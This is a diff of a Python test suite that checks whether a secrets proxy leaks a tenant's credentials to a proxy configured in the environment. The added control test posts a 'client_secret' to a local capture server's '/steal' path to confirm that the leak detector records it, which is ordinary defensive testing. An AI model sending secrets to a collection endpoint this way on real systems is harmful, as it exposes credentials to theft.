@@ -526,3 +526,10 @@ def test_a_proxy_in_the_environment_never_sees_a_loopback_tenant(
     run, _ = watch.run(submit_dag("limio_secrets_proxy", "EXT-PROXY"))
     assert states(run) == {"submit": "success"}
     assert capture.requests == []
+
+
+def test_control_the_capture_server_records_what_reaches_it(capture: Capture) -> None:
+    import requests
+
+    requests.post(f"{capture.url}/steal", data={"client_secret": SECRET}, timeout=5)
+    assert capture.requests and SECRET in capture.requests[0][2].decode()
